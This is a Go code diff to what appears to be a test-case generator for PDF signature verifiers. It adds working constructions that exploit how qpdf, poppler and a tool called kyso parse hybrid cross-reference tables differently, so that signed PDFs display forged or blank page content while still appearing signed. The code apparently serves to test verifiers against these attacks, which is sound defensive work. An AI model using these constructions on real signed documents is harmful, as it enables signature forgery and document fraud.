@@ -107,9 +107,14 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Shows: ForgedText, Hides: b.Marker})
 		},
 		func() ([]Case, error) {
-			doc, err := freeInTableInUseInStream(b.PDF)
+			doc, err := freeInTableInUseInStream(b.PDF, true)
 			return attack(ClassStructure, b, "forged page content hidden in an unused stream, page content free in a hybrid table and in use in its /XRefStm", doc, err,
 				Evidence{Shows: ForgedText, Hides: b.Marker})
+		},
+		func() ([]Case, error) {
+			doc, err := higherGenerationFirst(b.PDF)
+			return attack(ClassStructure, b, "page content free in a hybrid table, a generation-1 definition before a copy of the signed one", doc, err,
+				Evidence{Hides: b.Marker})
 		},
 		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
@@ -284,15 +289,18 @@ func hiddenContent(doc []byte) (string, Page, error) {
 // freeInTableInUseInStream appends to doc a hybrid-reference update whose
 // table marks page 1's content stream free and whose /XRefStm stream
 // lists it in use where it is, the signed definition, next to
-// hiddenContent. qpdf, and kyso as qpdf, read a table's in-use entries,
+// hiddenContent (if hide; an unused dictionary otherwise). qpdf, and kyso as qpdf, read a table's in-use entries,
 // then its stream, then its free entries: the signed content. poppler
 // reads the whole table before the stream, so the object is free; fetching
 // it fails, and poppler rebuilds the table line by line, finding the
 // forged definition in the unused stream.
-func freeInTableInUseInStream(doc []byte) ([]byte, error) {
+func freeInTableInUseInStream(doc []byte, hide bool) ([]byte, error) {
 	carrier, page, err := hiddenContent(doc)
 	if err != nil {
 		return nil, err
+	}
+	if !hide {
+		carrier = "<< /Unused true >>"
 	}
 	head := fmt.Appendf(nil, "\n%d 0 obj", page.Contents)
 	signedAt := bytes.LastIndex(doc, head)
@@ -313,6 +321,28 @@ func freeInTableInUseInStream(doc []byte) ([]byte, error) {
 	}
 	table += len("\nxref\n")
 	return append(append(bytes.Clone(out[:table]), fmt.Sprintf("%d 1\n0000000000 00001 f\r\n", page.Contents)...), out[table:]...), nil
+}
+
+// higherGenerationFirst appends to doc freeInTableInUseInStream's update
+// with no hidden content, and after it a definition of page 1's content
+// as generation 1, then a copy of the signed definition (generation 0),
+// which no section lists. A rebuild that takes the last definition (kyso's
+// scan, qpdf's) reads the signed content; poppler's keeps the higher
+// generation, and the page's "4 0 R" then names nothing: page 1 is blank.
+func higherGenerationFirst(doc []byte) ([]byte, error) {
+	page, err := PageOf(doc, 1)
+	if err != nil {
+		return nil, err
+	}
+	signed, err := ObjectBody(doc, page.Contents)
+	if err != nil {
+		return nil, err
+	}
+	out, err := freeInTableInUseInStream(doc, false)
+	if err != nil {
+		return nil, err
+	}
+	return fmt.Appendf(out, "%d 1 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")), page.Contents, signed), nil
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
